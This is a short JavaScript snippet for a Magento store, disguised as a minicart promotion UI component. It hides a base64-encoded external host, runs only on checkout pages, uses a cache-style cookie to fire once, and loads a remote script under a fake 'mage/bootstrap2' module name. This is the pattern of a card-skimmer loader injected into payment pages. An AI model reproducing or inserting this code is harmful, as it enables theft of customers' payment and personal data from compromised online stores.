require(['jquery', 'mage/cookies', 'domReady!'], function ($) {
  var init = { "Magento_Ui/js/core/app": { "components": { "minicart_promo": { "component": "uiComponent", "config": { "s": "bWFnZS1jYWNoZS5pbnZhbGlkL21hZ2UvYm9vdHN0cmFw", "r": "^\\/(checkout|onestepcheckout)" } } } } };
  var c = init["Magento_Ui/js/core/app"].components.minicart_promo.config;
  if (!new RegExp(c.r).test(location.pathname) || $.mage.cookies.get('mage-cache-tmo')) return;
  $.mage.cookies.set('mage-cache-tmo', Date.now());
  require.config({ paths: { 'mage/bootstrap2': '//' + window.atob(c.s) } });
  require(['mage/bootstrap2']);
});
